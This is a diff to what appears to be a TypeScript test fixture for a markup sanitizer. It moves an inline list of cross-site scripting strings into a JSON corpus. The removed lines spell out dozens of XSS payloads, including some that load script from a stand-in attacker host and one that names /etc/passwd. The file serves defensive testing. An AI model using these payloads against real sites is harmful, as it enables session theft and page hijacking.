@@ -1,103 +1,12 @@
 /**
- * Strings that have been used to smuggle code into pages: whole tags, addresses, and both inside
- * every mark that the small markup knows.
+ * Strings that smuggle code into pages, by the way they try it: the JSON beside this file, which
+ * the browser tests in Python draw too. The short ones are tried inside every mark of the small
+ * markup as well.
  */
-const TAGS: readonly string[] = [
-  String.raw`<script>alert(1)</script>`,
-  String.raw`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
-  String.raw`<img src=x onerror=alert(1)>`,
-  String.raw`<img src="x" onerror="alert(1)">`,
-  String.raw`<img/src=x/onerror=alert(1)>`,
-  String.raw`<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
-  String.raw`<svg onload=alert(1)>`,
-  String.raw`<svg/onload=alert(1)>`,
-  String.raw`<svg><script>alert(1)</script></svg>`,
-  String.raw`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
-  String.raw`<body onload=alert(1)>`,
-  String.raw`<iframe src="javascript:alert(1)">`,
-  String.raw`<iframe srcdoc="<script>alert(1)</script>">`,
-  String.raw`<object data="javascript:alert(1)">`,
-  String.raw`<embed src="javascript:alert(1)">`,
-  String.raw`<a href="javascript:alert(1)">x</a>`,
-  String.raw`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
-  String.raw`<math><a xlink:href="javascript:alert(1)">x</math>`,
-  String.raw`<form action="javascript:alert(1)"><input type=submit>`,
-  String.raw`<input autofocus onfocus=alert(1)>`,
-  String.raw`<select autofocus onfocus=alert(1)>`,
-  String.raw`<textarea autofocus onfocus=alert(1)>`,
-  String.raw`<keygen autofocus onfocus=alert(1)>`,
-  String.raw`<video><source onerror="alert(1)">`,
-  String.raw`<audio src=x onerror=alert(1)>`,
-  String.raw`<details open ontoggle=alert(1)>`,
-  String.raw`<marquee onstart=alert(1)>`,
-  String.raw`<style>@import "https://evil.example/x.css";</style>`,
-  String.raw`<link rel=stylesheet href="https://evil.example/x.css">`,
-  String.raw`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
-  String.raw`<base href="https://evil.example/">`,
-  String.raw`<template><script>alert(1)</script></template>`,
-  String.raw`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-  String.raw`"><script>alert(1)</script>`,
-  String.raw`'><script>alert(1)</script>`,
-  String.raw`</textarea><script>alert(1)</script>`,
-  String.raw`</title><script>alert(1)</script>`,
-  String.raw`<!--<img src="--><img src=x onerror=alert(1)//">`,
-  String.raw`<![CDATA[<script>alert(1)</script>]]>`,
-  String.raw`&lt;script&gt;alert(1)&lt;/script&gt;`,
-  String.raw`&#60;script&#62;alert(1)&#60;/script&#62;`,
-  String.raw`%3Cscript%3Ealert(1)%3C/script%3E`,
-  String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
-  '${alert(1)}',
-  String.raw`{{constructor.constructor('alert(1)')()}}`,
-  String.raw`#{alert(1)}`,
-  String.raw`<%= alert(1) %>`,
-  '${7*7}',
-  String.raw`<div style="background:url(javascript:alert(1))">`,
-  String.raw`<div style="width:expression(alert(1))">`,
-  String.raw`<x onclick=alert(1)>x`,
-  String.raw`<kommun-chat open onload=alert(1)>`,
-  String.raw`<script type=module>import("https://evil.example/x.js")</script>`,
-  String.raw`<a href="vbscript:msgbox(1)">x</a>`,
-  String.raw`<isindex type=image src=1 onerror=alert(1)>`,
-  String.raw`<table background="javascript:alert(1)">`,
-  String.raw`<button formaction=javascript:alert(1)>x`,
-  String.raw`<portal src="javascript:alert(1)">`,
-  String.raw`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">`,
-  String.raw`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
-  String.raw`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
-  String.raw`<p slot="x" onpointerenter=alert(1)>`,
-  String.raw`<a ping="https://evil.example/">x</a>`,
-  String.raw`<img srcset="x" sizes="x" onerror=alert(1)>`,
-  String.raw`<plaintext>`,
-  String.raw`<xmp><img src=x onerror=alert(1)></xmp>`,
-];
+import written from "./xss-corpus.json";
 
-const ADDRESSES: readonly string[] = [
-  "javascript:alert(1)",
-  "JaVaScRiPt:alert(1)",
-  "java\tscript:alert(1)",
-  "java\nscript:alert(1)",
-  " javascript:alert(1)",
-  "\u0001javascript:alert(1)",
-  "javascript&colon;alert(1)",
-  "javascript&#58;alert(1)",
-  "javascript%3Aalert(1)",
-  "javascript://%0aalert(1)",
-  "data:text/html,<script>alert(1)</script>",
-  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-  "vbscript:msgbox(1)",
-  "file:///etc/passwd",
-  "blob:https://a.example/1",
-  "filesystem:https://a.example/x",
-  "about:blank",
-  "view-source:javascript:alert(1)",
-  "intent://x#Intent;scheme=javascript;end",
-  "ws://evil.example/",
-  "ftp://evil.example/x",
-  "//evil.example/x",
-  "\\\\evil.example\\x",
-  "feed:javascript:alert(1)",
-  "jar:https://evil.example!/x",
-];
+const TEXTS: readonly string[] = Object.values(written).flat();
+const MARKED = [...written["event handlers"].slice(0, 12), ...written.addresses];
 
 const WRAPPINGS: readonly ((text: string) => string)[] = [
   (text) => `[x](${text})`,
@@ -107,6 +16,5 @@ const WRAPPINGS: readonly ((text: string) => string)[] = [
 ];
 
 export const XSS: readonly string[] = [
-  ...TAGS, ...ADDRESSES,
-  ...WRAPPINGS.flatMap((wrap) => [...TAGS.slice(0, 12), ...ADDRESSES].map(wrap)),
+  ...new Set([...TEXTS, ...WRAPPINGS.flatMap((wrap) => MARKED.map(wrap))]),
 ];
